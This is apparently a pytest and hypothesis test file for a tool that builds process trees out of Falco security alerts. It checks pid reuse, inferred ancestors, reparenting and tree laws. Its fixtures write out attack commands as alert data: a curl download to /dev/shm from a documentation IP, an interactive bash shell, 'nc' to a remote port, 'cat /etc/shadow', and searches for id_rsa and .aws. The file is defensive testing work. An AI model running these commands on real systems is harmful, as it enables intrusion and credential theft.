"""Process trees across alerts: stories with their tree drawn, and laws that hold for any alerts."""

from __future__ import annotations

from collections import defaultdict

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import analysis as fa

from .conftest import lines

MORNING = 1_757_000_000_000_000_000  # 2025-09-04T15:33:20Z
SECOND = 10**9


def told(second: float, host: str | None = "node-1", **fields: object) -> dict:
    """Return an alert `second` seconds into the story; dots are written as two underscores."""
    at = MORNING + int(second * SECOND)
    output = {name.replace("__", "."): value for name, value in fields.items()}
    for level in range(2, 8):
        for part in ("name", "pid", "exepath", "cmdline"):
            if f"proc.a{part}{level}" in output:
                output[f"proc.a{part}[{level}]"] = output.pop(f"proc.a{part}{level}")
    alert = {
        "output": "something happened",
        "output_fields": output | {"evt.time": at},
        "priority": "Warning",
        "rule": "A rule",
        "source": "syscall",
        "time": pd.Timestamp(at, tz="UTC").strftime("%Y-%m-%dT%H:%M:%S.%f") + "000Z",
    }
    return alert | ({"hostname": host} if host else {})


def tree_of(*alerts: dict) -> fa.ProcessTree:
    """Return the tree of these alerts."""
    frame, rejects = fa.read_alerts(lines(*alerts))
    assert rejects.empty, rejects
    return fa.process_tree(frame)


def drawn(tree: fa.ProcessTree) -> str:
    """Return the tree as text: `*` per alert, `~` inferred, `|` runtime, `^` reparented."""
    children = defaultdict(list)
    for row in tree.processes.to_dict("records"):
        children[row["parent_id"] if isinstance(row["parent_id"], str) else None].append(row)

    def draw(parent: str | None) -> list[str]:
        found = []
        for row in sorted(children[parent], key=lambda r: (r["first_seen"], str(r["proc.name"]))):
            marks = "*" * row["alerts"] + "~" * row["inferred"] + "|" * row["boundary"]
            marks += "^" * row["reparented"]
            found.append(
                "  " * row["depth"] + " ".join(filter(None, [str(row["proc.name"]), marks]))
            )
            found += draw(row["process_id"])
        return found

    return "\n".join(draw(None))


def expect(tree: fa.ProcessTree, picture: str) -> None:
    """Compare a tree with its picture, indented as it stands in a test."""
    rows = [line for line in picture.splitlines() if line.strip()]
    margin = min(len(line) - len(line.lstrip()) for line in rows)
    assert drawn(tree) == "\n".join(line[margin:].rstrip() for line in rows)


def process(pid: int, start: float) -> dict:
    """Return the fields that name a process by pid and start."""
    return {"proc__pid": pid, "proc__pid__ts": MORNING + int(start * SECOND)}


def parent(pid: int, start: float) -> dict:
    """Return the fields that name a parent by pid and start."""
    return {"proc__ppid": pid, "proc__ppid__ts": MORNING + int(start * SECOND)}


# ---------------------------------------------------------------- stories
POD = {"container__id": "4edbcbca7577", "user__loginuid": -1}
SHIM = {"proc__aname4": "containerd-shim", "proc__apid4": 700}


def webshell() -> list[dict]:
    """A web shell in a pod, told with pids: download, exec from /dev/shm, reverse shell, theft."""
    return [
        told(10, **POD, **process(5001, 10), **parent(1200, -900), proc__name="sh",
             proc__cmdline="sh -c curl -o /dev/shm/x http://198.51.100.7/x", proc__pname="php-fpm",
             proc__apid2=700, proc__aname2="containerd-shim", proc__apid3=1, proc__aname3="systemd"),
        told(11, **POD, **process(5002, 11), **parent(5001, 10), proc__name="curl",
             proc__cmdline="curl -o /dev/shm/x http://198.51.100.7/x", proc__pname="sh"),
        told(20, **POD, **process(5003, 20), **parent(5001, 10), proc__name="x",
             proc__exepath="/dev/shm/x", proc__cmdline="x", proc__pname="sh"),
        told(25, **POD, **process(5004, 24), **parent(5003, 20), proc__name="bash",
             proc__cmdline="bash -i", proc__pname="x"),
        told(40, **POD, **process(5005, 40), **parent(5004, 24), proc__name="cat",
             proc__cmdline="cat /etc/shadow", proc__pname="bash"),
        told(41, **POD, **process(5004, 24), **parent(5003, 20), proc__name="bash",
             proc__cmdline="bash -i", proc__pname="x"),
    ]  # fmt: skip


def test_web_shell_in_a_pod():
    """With pids the tree is fact, down from the shim; who never alerted stands there too."""
    tree = tree_of(*webshell())

    expect(
        tree,
        """
        systemd
          containerd-shim |
            php-fpm
              sh *
                curl *
                x *
                  bash **
                    cat *
        """,
    )
    assert not tree.processes["inferred"].any()
    by_name = tree.processes.set_index("proc.name")
    assert by_name.loc["cat", "proc.pid"] == 5005
    assert by_name.loc["cat", "confidence"] == "high"
    assert by_name.loc["containerd-shim", "confidence"] == "medium", "its start is not told"
    assert by_name.loc["bash", "first_seen"] == pd.Timestamp(MORNING + 25 * SECOND, tz="UTC")
    assert by_name.loc["bash", "last_seen"] == pd.Timestamp(MORNING + 41 * SECOND, tz="UTC")
    assert by_name.loc["php-fpm", "started"] == pd.Timestamp(MORNING - 900 * SECOND, tz="UTC")


def test_web_shell_told_by_names():
    """Without pids the same story is only what its names and command lines are consistent with."""
    curl = "curl -o /dev/shm/x http://198.51.100.7/x"
    tree = tree_of(
        told(10, **POD, proc__name="sh", proc__cmdline=f"sh -c {curl}", proc__pname="php-fpm",
             proc__aname2="containerd-shim", proc__aname3="systemd"),
        told(11, **POD, proc__name="curl", proc__cmdline=curl, proc__pname="sh",
             proc__pcmdline=f"sh -c {curl}"),
        told(20, **POD, proc__name="x", proc__exepath="/dev/shm/x", proc__cmdline="x",
             proc__pname="sh", proc__aname2="php-fpm"),
        told(25, **POD, proc__name="bash", proc__cmdline="bash -i", proc__pname="x",
             proc__aname2="sh", proc__aname3="php-fpm"),
        told(40, **POD, proc__name="cat", proc__cmdline="cat /etc/shadow", proc__pname="bash",
             proc__aname2="x"),
    )  # fmt: skip

    expect(
        tree,
        """
        systemd ~
          containerd-shim ~|
            php-fpm ~
              sh *~
                curl *~
                x *~
                  bash *~
                    cat *~
        """,
    )
    assert set(tree.processes["confidence"]) == {"medium", "low"}
    assert tree.processes["proc.pid"].isna().all()


def test_event_generator_runs_ten_actions():
    """Ten stock alerts of one run, by names of two or three levels: one generator above them."""
    generator = {"container__id": "3c3a6dc2e1f5", "user__loginuid": -1}
    own = {"proc__cmdline": "event-generator run syscall --loop", "proc__pname": "containerd-shim"}
    below = {"proc__pname": "event-generator", "proc__aname2": "containerd-shim"}
    tree = tree_of(
        told(1, **generator, proc__name="event-generator", **own),
        told(2, **generator, proc__name="ln", proc__cmdline="ln -s /etc /tmp/x/etc_link", **below),
        told(3, **generator, proc__name="event-generator", **own),
        told(4, **generator, proc__name="find", proc__cmdline="find /tmp -iname id_rsa", **below),
        told(5, **generator, proc__name="find", proc__cmdline="find /tmp -iname .aws", **below),
        told(6, **generator, proc__name="shred", proc__cmdline="shred -u /tmp/x",
             proc__pname="event-generator"),
        told(7, **generator, proc__name="3", proc__cmdline="3 run helper.DoNothing",
             proc__exepath="memfd:program", **below),
        told(8, **generator, proc__name="httpd", proc__cmdline="httpd --loglevel info run ^helper.RunShell$",
             **below),
        told(9, **generator, proc__name="bash", proc__cmdline="bash -c ls > /dev/null",
             proc__pname="httpd", proc__aname2="event-generator", proc__aname3="containerd-shim"),
        told(10, **generator, proc__name="event-generator", **own),
    )  # fmt: skip

    expect(
        tree,
        """
        containerd-shim ~|
          event-generator ***~
            ln *~
            find *~
            find *~
            shred *~
            3 *~
            httpd *~
              bash *~
        """,
    )


def test_a_pid_used_twice():
    """Two starts of one pid are two processes, each with the children that name its start."""
    tree = tree_of(
        told(1, **process(4242, 0), proc__name="cron"),
        told(2, **process(77, 2), **parent(4242, 0), proc__name="sh"),
        told(100, **process(4242, 90), proc__name="nginx"),
        told(101, **process(78, 100), **parent(4242, 90), proc__name="sh"),
        told(102, **process(79, 50), **parent(4242, 90), proc__name="older-than-it"),
    )

    expect(
        tree,
        """
        cron *
          sh *
        nginx *
          sh *
        older-than-it *
        """,
    )


def test_a_pid_used_twice_without_start_times():
    """Another program, another container, or a pause: another process. One run of alerts is one."""

    def shell(second: float, **more: object) -> dict:
        return told(second, proc__pid=4242, **{"proc__name": "sh", "container__id": "a1"} | more)

    tree = tree_of(
        shell(1), shell(2), shell(60, proc__name="nginx"), shell(61, proc__name="nginx"),
        shell(62, proc__name="nginx", container__id="b2"), shell(7200), shell(7201),
    )  # fmt: skip

    expect(tree, "sh **\nnginx **\nnginx *\nsh **")
    assert set(tree.processes["confidence"]) == {"medium"}


def test_an_ancestor_is_the_process_that_then_had_its_pid():
    """proc.apid has no start: it means who had the pid by then, not who has it later."""
    tree = tree_of(
        told(1, **process(900, 0), proc__name="sshd"),
        told(50, **process(910, 40), proc__name="ls", proc__ppid=905, proc__pname="bash",
             proc__apid2=900, proc__aname2="sshd"),
        told(5000, **process(900, 4990), proc__name="sshd"),
        told(5010, **process(911, 5000), proc__name="id", proc__ppid=906, proc__pname="bash",
             proc__apid2=900, proc__aname2="sshd"),
    )  # fmt: skip

    expect(
        tree,
        """
        sshd *
          bash
            ls *
        sshd *
          bash
            id *
        """,
    )


def test_an_ancestor_of_another_name_is_another_process():
    """A pid long since used by another program is not joined to the alert that had it once."""
    tree = tree_of(
        told(1, **process(900, 0), proc__name="sshd"),
        told(90_000, **process(910, 90_000), proc__name="ls", proc__ppid=900, proc__pname="bash"),
    )

    expect(tree, "sshd *\nbash\n  ls *")


def test_reparenting():
    """The earliest alert tells the origin; that a later one tells init is marked, not drawn."""
    tree = tree_of(
        told(1, **process(10, 1), **parent(5, 0), proc__name="implant", proc__pname="sh"),
        told(99, **process(10, 1), **parent(1, -9000), proc__name="implant", proc__pname="systemd"),
    )

    expect(tree, "sh\n  implant **^\nsystemd")


def test_a_duration_tells_the_start():
    """Event time minus proc.duration; a tiny parent's duration is Falco's count of open files."""
    tree = tree_of(
        told(30, proc__pid=10, proc__duration=20 * SECOND, proc__name="a", proc__ppid=5,
             proc__ppid__duration=3),
        told(31, **process(10, 10), proc__name="a", proc__ppid=5),
    )  # fmt: skip

    mine = tree.processes[tree.processes["alerts"] > 0]
    assert list(mine["alerts"]) == [2]
    assert list(mine["started"]) == [pd.Timestamp(MORNING + 10 * SECOND, tz="UTC")]
    assert tree.processes.loc[tree.processes["alerts"] == 0, "started"].isna().all()


def test_exec_keeps_the_process():
    """A shell that execs its command is one process; it is described by its earliest alert."""
    tree = tree_of(
        told(1, **process(10, 0), proc__name="bash", proc__cmdline="bash -c exec nc"),
        told(2, **process(10, 0), proc__name="nc", proc__cmdline="nc 198.51.100.7 443",
             proc__exepath="/usr/bin/nc"),
    )  # fmt: skip

    (row,) = tree.processes.to_dict("records")
    assert (row["proc.name"], row["proc.cmdline"], row["alerts"]) == ("bash", "bash -c exec nc", 2)
    assert pd.isna(row["proc.exepath"]), "nc's path is not bash's"


def test_marks():
    """Session leader, terminal and the container's boundary, each as the alert tells it."""
    tree = tree_of(
        told(1, **process(10, 0), **parent(9, -1), proc__name="bash", proc__pname="containerd-shim",
             proc__is_sid_leader=True, proc__tty=34816),
        told(2, **process(11, 1), proc__name="ls", proc__sid=7, proc__vpid=8, proc__tty=0),
        told(3, **process(12, 2), proc__name="ps"),
    )  # fmt: skip

    marks = tree.processes.set_index("proc.name")[["session_leader", "terminal", "boundary"]]
    assert list(marks.loc["bash"]) == [True, "/dev/pts/0", False]
    assert list(marks.loc["ls"]) == [False, "none", False]
    assert marks.loc["ps"].isna().sum() == 2
    assert marks.loc["containerd-shim", "boundary"]


def test_queries():
    """Ancestors nearest first, descendants by level, roots, and the way between two processes."""
    tree = tree_of(*webshell(), told(1, host="node-2", **process(5, 0), proc__name="alone"))
    ids = tree.processes.set_index("proc.name")["process_id"]

    assert list(tree.ancestors(ids["x"])["proc.name"]) == [
        "sh",
        "php-fpm",
        "containerd-shim",
        "systemd",
    ]
    assert list(tree.descendants(ids["sh"])["proc.name"]) == ["curl", "x", "bash", "cat"]
    assert tree.descendants(ids["cat"]).empty
    assert set(tree.roots()["proc.name"]) == {"systemd", "alone"}
    assert list(tree.path(ids["curl"], ids["cat"])["proc.name"]) == [
        "curl",
        "sh",
        "x",
        "bash",
        "cat",
    ]
    assert list(tree.path(ids["cat"], ids["cat"])["proc.name"]) == ["cat"]
    assert tree.path(ids["cat"], ids["alone"]).empty
    with pytest.raises(KeyError, match="no process 'p-0'"):
        tree.ancestors("p-0")


# ---------------------------------------------------------------- what is not known is not joined
@pytest.mark.parametrize(
    "other",
    [
        {"host": "node-2"},
        {"container__id": "b2"},
        {"user__loginuid": 1001},
        {"second": 2000},
    ],
)
def test_names_never_meet_across_scopes(other):
    """Equal names on another host, container or login, or after a pause, are other processes."""
    first = {"second": 1, "container__id": "a1", "user__loginuid": 1000}
    tree = tree_of(
        told(**first, proc__name="sh", proc__cmdline="sh -c id", proc__pname="nginx"),
        told(**first | other, proc__name="id", proc__cmdline="id", proc__pname="sh",
             proc__pcmdline="sh -c id"),
    )  # fmt: skip

    expect(tree, "nginx ~\n  sh *~\nsh ~\n  id *~")


def test_a_name_that_goes_on_two_ways_goes_on_neither():
    """Two shells below two servers: of whose shell the third process is, nobody can tell."""
    box = {"container__id": "a1"}
    tree = tree_of(
        told(1, **box, proc__name="sh", proc__cmdline="sh a", proc__pname="nginx"),
        told(2, **box, proc__name="sh", proc__cmdline="sh b", proc__pname="cron"),
        told(3, **box, proc__name="id", proc__cmdline="id", proc__pname="sh"),
    )

    expect(tree, "nginx ~\n  sh *~\ncron ~\n  sh *~\nsh ~\n  id *~")


def test_a_name_above_which_two_processes_stand_is_one_root():
    """It goes on to systemd, but to which of two is not told: both short chains end in one root."""
    host = {"container__id": "host", "proc__pname": "sh", "proc__aname2": "nginx"}
    user = {"proc__aname3": "systemd"}
    tree = tree_of(
        told(
            1, **host, **user, proc__name="a", proc__cmdline="a", proc__acmdline3="systemd --user"
        ),
        told(
            2, **host, **user, proc__name="b", proc__cmdline="b", proc__acmdline3="systemd --system"
        ),
        told(3, **host, proc__name="c", proc__cmdline="c"),
        told(4, container__id="host", proc__name="d", proc__cmdline="d", proc__pname="nginx"),
    )

    expect(
        tree,
        """
        systemd ~
          nginx ~
            sh ~
              a *~
        systemd ~
          nginx ~
            sh ~
              b *~
        nginx ~
          sh ~
            c *~
          d *~
        """,
    )


def test_one_equal_name_joins_nothing_on_a_host():
    """On a host `bash` is everywhere; only the same command line makes it likely the same."""
    tree = tree_of(
        told(1, container__id="host", proc__name="bash", proc__cmdline="bash", proc__pname="sshd"),
        told(2, container__id="host", proc__name="id", proc__cmdline="id", proc__pname="bash"),
    )

    expect(tree, "sshd ~\n  bash *~\nbash ~\n  id *~")


def test_names_joined_without_a_host_are_not():
    """Two alerts that tell no host are not known to be of one; within one alert the chain holds."""
    tree = tree_of(
        told(1, host=None, proc__name="sh", proc__cmdline="sh", proc__pname="nginx"),
        told(2, host=None, proc__name="sh", proc__cmdline="sh", proc__pname="nginx"),
    )

    expect(tree, "nginx ~\n  sh *~\nnginx ~\n  sh *~")
    assert set(tree.processes["confidence"]) == {"low"}


def test_names_above_pids():
    """A rule that prints pid and parent's pid, and names above: the names are inferred."""
    tree = tree_of(
        told(1, **POD, **process(10, 0), **parent(9, -5), proc__name="id", proc__pname="sh",
             proc__aname2="nginx", proc__aname3="containerd-shim"),
    )  # fmt: skip

    expect(tree, "containerd-shim ~|\n  nginx ~\n    sh ~\n      id *")
    by_name = tree.processes.set_index("proc.name")
    assert by_name.loc["id", "confidence"] == "high"
    assert by_name.loc["sh", "proc.pid"] == 9


def test_joined_names_are_never_split():
    """proc.aname without an index holds all ancestors' names, which may hold blanks."""
    tree = tree_of(told(1, proc__name="sh", proc__aname="tmux: server systemd", proc__apid=5))

    expect(tree, "sh *~")


# ---------------------------------------------------------------- odd input
def test_a_process_that_is_its_own_parent():
    """ppid = pid is no edge."""
    expect(tree_of(told(1, **process(5, 0), **parent(5, 0), proc__name="loop")), "loop *")
    expect(
        tree_of(told(1, proc__pid=5, proc__ppid=5, proc__name="loop", proc__pname="loop")), "loop *"
    )


def test_a_cycle_is_cut_above_the_process_seen_first():
    """Two that call each other parent: the one seen first becomes the root."""
    tree = tree_of(
        told(3, proc__pid=6, proc__ppid=5, proc__name="b", proc__pname="a"),
        told(2, proc__pid=5, proc__ppid=6, proc__name="a", proc__pname="b"),
    )

    expect(tree, "a *\n  b *")


@pytest.mark.parametrize("frame", [pd.DataFrame(), fa.read_alerts(lines(told(1)))[0].iloc[:0]])
def test_empty(frame):
    """No alerts, no processes; every column is there with its dtype."""
    tree = fa.process_tree(frame)
    full = tree_of(told(1, **process(5, 0), proc__name="a")).processes

    assert tree.processes.empty
    assert tree.alert_process.empty
    assert list(tree.processes.columns) == list(full.columns)
    different = [c for c in full if str(full[c].dtype) != str(tree.processes[c].dtype)]
    assert not different


def test_single():
    """One alert on one process: a root."""
    tree = tree_of(told(1, **process(5, 0), proc__name="a"))

    assert list(tree.alert_process) == list(tree.processes["process_id"])
    assert tree.processes["process_id"].str.fullmatch("p-[0-9a-f]{16}").all()
    assert list(tree.processes["depth"]) == [0]


def test_alerts_that_tell_of_no_process():
    """An audit event, and an alert of nulls, belong to no process."""
    tree = tree_of(
        told(1, ka__verb="create"),
        told(2, proc__name=None, proc__pid=None, proc__cmdline="", proc__exepath="<NA>"),
        told(3, proc__name="<NA>", proc__pid=-1),
    )

    assert tree.processes.empty
    assert tree.alert_process.isna().all()


def test_no_time():
    """Alerts without a time keep their processes."""
    frame, _ = fa.read_alerts(lines(*webshell()))
    frame = frame.assign(time=pd.NaT, **{"evt.time": pd.NaT})

    tree = fa.process_tree(frame)

    assert tree.alert_process.notna().all()
    assert tree.processes["first_seen"].isna().all()


# ---------------------------------------------------------------- laws
NAMES = st.sampled_from([None, "sh", "nginx", "cron"])
PIDS = st.sampled_from([None, 1, 5, 6, 7])
STARTS = st.one_of(st.none(), st.integers(-3, 40))


@st.composite
def an_alert(draw: st.DrawFn) -> dict:
    """Any alert of a small world, so that pids, names and times often meet."""
    start, parent_start = draw(STARTS), draw(STARTS)
    return {
        "time": draw(st.one_of(st.integers(0, 60), st.integers(0, 5000))),
        "hostname": draw(st.sampled_from([None, "node-1", "node-2"])),
        "container.id": draw(st.sampled_from([None, "host", "a1"])),
        "user.loginuid": draw(st.sampled_from([None, -1, 1000])),
        "proc.pid": draw(PIDS),
        "proc.ppid": draw(PIDS),
        "proc.pid.ts": start,
        "proc.ppid.ts": parent_start,
        "proc.apid[2]": draw(PIDS),
        "proc.apid[3]": draw(PIDS),
        "proc.name": draw(NAMES),
        "proc.pname": draw(NAMES),
        "proc.aname[2]": draw(NAMES),
        "proc.aname[3]": draw(NAMES),
        "proc.cmdline": draw(st.sampled_from([None, "sh -c a", "sh -c b"])),
        "proc.pcmdline": draw(st.sampled_from([None, "sh -c a", "sh -c b"])),
        "proc.exepath": draw(st.sampled_from([None, "/bin/sh", "/tmp/sh"])),
        "proc.tty": draw(st.sampled_from([None, 0, 34816])),
    }


def framed(alerts: list[dict]) -> pd.DataFrame:
    """Return alerts as `read_alerts` would type them."""
    frame = pd.DataFrame(alerts)
    for column in frame:
        if column == "time" or column.endswith(".ts"):
            moments = frame[column].astype("Int64") * SECOND + MORNING
            frame[column] = pd.to_datetime(moments, utc=True).astype("datetime64[ns, UTC]")
        elif column.startswith(("proc.pid", "proc.ppid", "proc.apid", "proc.tty", "user.loginuid")):
            frame[column] = frame[column].astype("Int64")
        else:
            frame[column] = frame[column].astype("str" if "cmdline" in column else "category")
    return frame


WORLDS = st.lists(an_alert(), min_size=1, max_size=8)


@settings(max_examples=60)
@given(st.data(), WORLDS)
def test_any_order_gives_the_same_tree(data, world):
    """Ids, parents and all that is said of a process do not depend on the order of alerts."""
    frame = framed(world)
    shuffled = frame.loc[data.draw(st.permutations(range(len(frame))))]

    one, other = fa.process_tree(frame), fa.process_tree(shuffled)

    pd.testing.assert_frame_equal(one.processes, other.processes)
    pd.testing.assert_series_equal(one.alert_process, other.alert_process.sort_index())


@settings(max_examples=60)
@given(WORLDS)
def test_a_tree_is_a_tree(world):
    """No cycle; a parent is one level up, on the same host, and not younger; every id is once."""
    frame = framed(world)
    tree = fa.process_tree(frame)
    rows = tree.processes.set_index("process_id")

    assert rows.index.is_unique
    counted = tree.alert_process.value_counts()
    for process_id, row in rows.iterrows():
        assert row["alerts"] == counted.get(process_id, 0)
        if pd.isna(row["parent_id"]):
            assert row["depth"] == 0
            continue
        above = rows.loc[row["parent_id"]]
        assert row["depth"] == above["depth"] + 1
        assert pd.isna(row["hostname"]) == pd.isna(above["hostname"])
        assert pd.isna(row["hostname"]) or row["hostname"] == above["hostname"]
        assert not above["started"] > row["started"]
        assert row["first_seen"] <= row["last_seen"]
    for name in frame.index[frame["proc.pid"].isna() & frame["proc.name"].notna()]:
        assert rows.loc[tree.alert_process[name], "inferred"]


@settings(max_examples=60)
@given(WORLDS)
def test_a_pid_used_again_never_merges(world):
    """Two starts of one pid on one host are two processes; one start is one, wherever told."""
    frame = framed(world).assign(process=lambda f: fa.process_tree(f).alert_process)
    dated = frame[frame["proc.pid"].notna() & frame["proc.pid.ts"].notna()]
    parts = (dated[c].astype("str").fillna("-") for c in ("hostname", "proc.pid", "proc.pid.ts"))
    identity = pd.Series(map("/".join, zip(*parts, strict=True)), index=dated.index, dtype="str")

    assert (identity.groupby(dated["process"]).nunique() == 1).all()  # noqa: PD101 - per group
    assert (dated.groupby(identity)["process"].nunique() == 1).all()  # noqa: PD101
    whole = frame[frame["proc.pid"].notna()]
    for column in ("hostname", "proc.pid"):
        assert (whole.groupby("process")[column].nunique(dropna=False) == 1).all()  # noqa: PD101


def plain(alerts: list[dict]) -> dict[tuple, tuple[tuple | None, int]]:
    """Return each process's parent and depth, worked out one by one: what the arrays must give."""
    claims: dict[tuple, list] = defaultdict(list)
    for alert in alerts:
        me = (alert["hostname"], alert["proc.pid"], alert["proc.pid.ts"])
        mine = (alert["hostname"], alert["proc.ppid"], alert["proc.ppid.ts"])
        claims[me] += [(alert["time"], mine)] if mine[2] <= me[2] and mine != me else []
        claims[mine] += []
    parents = {me: min(told, default=(0, None))[1] for me, told in claims.items()}

    def depth(me: tuple) -> int:
        return 0 if parents[me] is None else depth(parents[me]) + 1

    return {me: (parents[me], depth(me)) for me in claims}


@settings(max_examples=60)
@given(
    st.lists(
        st.tuples(st.integers(2, 5), st.integers(0, 30), st.integers(2, 5), st.integers(0, 30)),
        min_size=1,
        max_size=40,
    )
)
def test_parents_and_depths_are_those_of_a_plain_walk(moves):
    """With all starts told, the tree is what a walk through dicts finds."""
    alerts = [
        # a parent is older here, so that no cycle of equals makes the plain walk endless
        {"time": n, "hostname": "node-1", "proc.pid": pid, "proc.pid.ts": start * 10 + pid,
         "proc.ppid": ppid, "proc.ppid.ts": above * 10 + ppid}
        for n, (pid, start, ppid, above) in enumerate(moves)
    ]  # fmt: skip
    rows = fa.process_tree(framed(alerts)).processes
    moment = (rows["started"].astype("int64") - MORNING) // SECOND
    me = list(zip(rows["hostname"], rows["proc.pid"].astype(int), moment, strict=True))
    by_id = dict(zip(rows["process_id"], me, strict=True))

    found = {
        one: (by_id.get(parent_id), depth)
        for one, parent_id, depth in zip(me, rows["parent_id"], rows["depth"], strict=True)
    }
    assert found == plain(alerts)


def test_any_depth():
    """A chain of 5,000 is as deep as it is long."""
    chain = [
        {"time": n, "hostname": "node-1", "proc.pid": n + 2, "proc.pid.ts": n,
         "proc.ppid": n + 1, "proc.ppid.ts": n - 1}
        for n in range(5000)
    ]  # fmt: skip
    tree = fa.process_tree(framed(chain))

    assert tree.processes["depth"].max() == 5000
    assert len(tree.ancestors(tree.alert_process.iloc[-1])) == 5000
    assert len(tree.descendants(tree.roots()["process_id"].iloc[0])) == 5000
